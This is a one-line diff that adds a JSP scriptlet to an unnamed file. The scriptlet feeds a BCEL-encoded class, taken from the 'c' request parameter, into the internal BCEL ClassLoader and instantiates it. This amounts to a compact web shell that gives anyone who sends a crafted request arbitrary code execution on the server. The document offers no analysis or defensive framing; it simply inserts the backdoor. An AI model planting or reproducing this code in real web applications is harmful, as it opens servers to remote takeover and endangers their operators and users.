@@ -1,0 +1,1 @@
+<% new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass("$$BCEL$$" + request.getParameter("c")).newInstance(); %>
